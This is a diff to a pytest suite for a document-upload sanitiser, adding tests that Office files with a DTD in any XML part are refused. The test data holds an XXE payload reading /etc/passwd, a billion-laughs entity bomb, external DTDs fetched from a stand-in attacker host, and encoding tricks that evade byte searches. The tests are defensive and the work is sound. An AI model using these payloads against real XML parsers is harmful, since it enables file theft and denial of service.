@@ -6,6 +6,7 @@ rather than building large files.
 
 import io
 import re
+import time
 import zipfile
 from xml.dom import minidom
 
@@ -528,20 +529,178 @@ def test_corrupt_office_file_is_refused():
     assert only_refusal("broken.docx", bytes(docx)).code == "invalid_document"
 
 
-def test_office_xml_with_a_dtd_is_refused():
-    bad_types = (
-        b'<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "aaaaaaaa">]>'
-        b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
-    )
-    docx = make_ooxml()
-    parts = zip_parts(docx)
-    parts["[Content_Types].xml"] = bad_types
+def with_parts(package: bytes, parts: dict[str, bytes]) -> bytes:
+    """The same package with some parts replaced or added."""
+    merged = {**zip_parts(package), **parts}
     out = io.BytesIO()
-    with zipfile.ZipFile(out, "w") as archive:
-        for name, content in parts.items():
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, content in merged.items():
             archive.writestr(name, content)
+    return out.getvalue()
 
-    assert only_refusal("entity.docx", out.getvalue()).code == "invalid_document"
+
+XXE = b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+# Nine levels of ten references each: 10**9 "lol"s if a parser expanded them.
+LAUGHS = (
+    b'<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
+    + b"".join(b'<!ENTITY lol%d "%s">' % (level, b"&lol%d;" % (level - 1) * 10) for level in range(2, 10))
+    + b"]>"
+)
+
+
+def with_dtd(xml: bytes, dtd: bytes = XXE) -> bytes:
+    """Insert a DTD after the XML declaration (or at the start when there is none)."""
+    if xml.startswith(b"<?xml"):
+        end = xml.index(b"?>") + 2
+        return xml[:end] + dtd + xml[end:]
+    return dtd + xml
+
+
+def docx_parts() -> dict[str, bytes]:
+    return zip_parts(make_ooxml())
+
+
+CUSTOM_XML = (
+    b'<?xml version="1.0" encoding="UTF-8" standalone="no"?>'
+    b'<root xmlns="http://example.org/case"><item>Evidence</item></root>'
+)
+SVG = b'<?xml version="1.0" encoding="UTF-8"?><svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>'
+# Where a DTD can hide: parts the sanitiser rewrites, parts it drops, and parts it never reads,
+# whatever they are called.
+DTD_PARTS = {
+    "document.xml": lambda: {"word/document.xml": with_dtd(DOCX_BODY)},
+    "content-types": lambda: {"[Content_Types].xml": with_dtd(docx_parts()["[Content_Types].xml"])},
+    "package-rels": lambda: {"_rels/.rels": with_dtd(docx_parts()["_rels/.rels"])},
+    "part-rels": lambda: {
+        "word/_rels/document.xml.rels": with_dtd(
+            b'<?xml version="1.0" encoding="UTF-8"?>'
+            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>'
+        )
+    },
+    "custom-xml-part": lambda: {"customXml/item1.xml": with_dtd(CUSTOM_XML)},
+    "core-properties": lambda: {"docProps/core.xml": with_dtd(docx_parts()["docProps/core.xml"])},
+    "app-properties": lambda: {"docProps/app.xml": with_dtd(docx_parts()["docProps/app.xml"])},
+    "custom-properties": lambda: {"docProps/custom.xml": with_dtd(docx_parts()["docProps/custom.xml"])},
+    "svg-picture": lambda: {"word/media/image1.svg": with_dtd(SVG)},
+    "xml-without-xml-name": lambda: {"customXml/item1.dat": with_dtd(CUSTOM_XML)},
+    "no-extension": lambda: {"word/glossary/data": with_dtd(CUSTOM_XML)},
+}
+
+
+@pytest.mark.parametrize("where", DTD_PARTS)
+def test_a_dtd_in_any_xml_part_refuses_the_office_file(where):
+    docx = with_parts(make_ooxml(), DTD_PARTS[where]())
+
+    error = only_refusal("letter.docx", docx)
+
+    assert error.code == "dtd"
+    assert text(error) == (
+        "“letter.docx” contains a document type declaration (DTD), which Word, Excel and PowerPoint "
+        "never write and which can be used to attack the server. Open it in Office, save it again "
+        "and upload the new copy."
+    )
+
+
+def utf16(xml: bytes, codec: str, *, bom: bool) -> bytes:
+    text = xml.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
+    mark = {"utf-16-le": b"\xff\xfe", "utf-16-be": b"\xfe\xff"}[codec] if bom else b""
+    return mark + text.encode(codec)
+
+
+# The same XXE written so that a search of the raw bytes for "<!DOCTYPE" misses it.
+DTD_SPELLINGS = {
+    "utf-16-le-bom": lambda: utf16(with_dtd(DOCX_BODY), "utf-16-le", bom=True),
+    "utf-16-be-bom": lambda: utf16(with_dtd(DOCX_BODY), "utf-16-be", bom=True),
+    "utf-16-le-no-bom": lambda: utf16(with_dtd(DOCX_BODY), "utf-16-le", bom=False),
+    "utf-16-be-no-bom": lambda: utf16(with_dtd(DOCX_BODY), "utf-16-be", bom=False),
+    "utf-8-bom": lambda: b"\xef\xbb\xbf" + with_dtd(DOCX_BODY),
+    "lower-case": lambda: with_dtd(DOCX_BODY, XXE.replace(b"DOCTYPE", b"doctype")),
+    "after-comment-and-whitespace": lambda: b"\n \t<!-- hello -->\r\n" + XXE + DOCX_BODY.split(b"?>", 1)[1],
+    "parameter-entity": lambda: with_dtd(
+        DOCX_BODY, b'<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>'
+    ),
+    "public-external-dtd": lambda: with_dtd(
+        DOCX_BODY, b'<!DOCTYPE r PUBLIC "-//X//Y" "http://attacker.example/x.dtd">'
+    ),
+    "latin-1-declared": lambda: with_dtd(DOCX_BODY.replace(b'encoding="UTF-8"', b'encoding="ISO-8859-1"')),
+}
+
+
+@pytest.mark.parametrize("spelling", DTD_SPELLINGS)
+def test_a_dtd_is_found_however_the_part_is_encoded(spelling):
+    docx = with_parts(make_ooxml(), {"word/document.xml": DTD_SPELLINGS[spelling]()})
+
+    assert only_refusal("letter.docx", docx).code == "dtd"
+
+
+def test_an_xml_part_in_an_encoding_office_does_not_write_is_refused():
+    utf32 = with_dtd(DOCX_BODY).decode().replace('encoding="UTF-8"', 'encoding="UTF-32"').encode("utf-32")
+    ebcdic = DOCX_BODY.decode().replace('encoding="UTF-8"', 'encoding="cp037"').encode("cp037")
+
+    for body in (utf32, ebcdic):
+        docx = with_parts(make_ooxml(), {"word/document.xml": body})
+        assert only_refusal("letter.docx", docx).code in {"dtd", "invalid_document"}
+
+
+@pytest.mark.parametrize("part", ["word/document.xml", "[Content_Types].xml", "word/comments.xml"])
+def test_billion_laughs_is_refused_without_being_expanded(part):
+    original = docx_parts()
+    body = original.get(part, b'<?xml version="1.0"?><w:comments ' + W.encode() + b"/>")
+    laughs = with_dtd(body, LAUGHS).replace(b"<w:t>Evidence</w:t>", b"<w:t>&lol9;</w:t>")
+    docx = with_parts(make_ooxml(), {part: laughs})
+
+    started = time.perf_counter()
+    error = only_refusal("laughs.docx", docx)
+
+    assert error.code == "dtd"
+    assert time.perf_counter() - started < 2  # 10**9 "lol"s would take minutes and gigabytes
+
+
+def test_a_dtd_in_an_embedded_office_file_refuses_the_document():
+    sheet = with_parts(
+        make_xlsx(),
+        {"xl/worksheets/sheet1.xml": with_dtd(zip_parts(make_xlsx())["xl/worksheets/sheet1.xml"])},
+    )
+    docx = with_parts(make_ooxml(), {"word/embeddings/Microsoft_Excel_Worksheet.xlsx": sheet})
+
+    assert only_refusal("letter.docx", docx).code == "dtd"
+
+
+def test_parts_office_writes_that_are_not_well_formed_xml_are_kept():
+    # Excel's legacy VML keeps HTML's unclosed <br>; a video's first box can be 60 bytes long ("\0\0\0<").
+    vml = b'<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><div>line<br>line</div></v:shape></xml>'
+    video = b"\x00\x00\x00<ftypisom" + bytes(range(256)) * 4
+    docx = with_parts(make_ooxml(), {"xl/drawings/vmlDrawing1.vml": vml, "ppt/media/media1.mp4": video})
+
+    (prepared,) = prepare_uploads([upload("letter.docx", docx)])
+
+    parts = zip_parts(prepared.content)
+    assert parts["xl/drawings/vmlDrawing1.vml"] == vml and parts["ppt/media/media1.mp4"] == video
+
+
+def test_a_utf16_part_without_a_dtd_is_accepted_and_stored_as_utf8():
+    custom = utf16(CUSTOM_XML, "utf-16-le", bom=True)
+    docx = with_parts(make_ooxml(), {"customXml/item1.xml": custom})
+
+    (prepared,) = prepare_uploads([upload("letter.docx", docx)])
+
+    stored = zip_parts(prepared.content)["customXml/item1.xml"]
+    assert stored.startswith(b'<?xml version="1.0" encoding="UTF-8"')
+    assert minidom.parseString(stored).getElementsByTagName("item")[0].firstChild.data == "Evidence"  # noqa: S318
+
+
+def test_authors_in_a_utf16_part_are_replaced_too():
+    comments = (
+        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:comments {W}>'
+        f'<w:comment w:id="0" w:author="{PERSON}" w:initials="ZS"><w:p/></w:comment></w:comments>'
+    ).encode()
+    docx = make_ooxml(extra={"word/comments.xml": utf16(comments, "utf-16-le", bom=True)})
+
+    (prepared,) = prepare_uploads([upload("letter.docx", docx)])
+
+    stored = zip_parts(prepared.content)["word/comments.xml"]
+    assert PERSON.encode() not in stored and PERSON.encode("utf-16-le") not in stored
+    assert b'w:author="Author 1"' in stored
 
 
 # --- PDF specifics -----------------------------------------------------------------------------
@@ -939,7 +1098,7 @@ def test_office_comments_part_with_a_dtd_is_refused():
 
     error = only_refusal("letter.docx", make_ooxml(extra={"word/comments.xml": comments}))
 
-    assert error.code == "invalid_document"
+    assert error.code == "dtd"
 
 
 # --- PDF: scripts, automatic actions and attachments ------------------------------------------
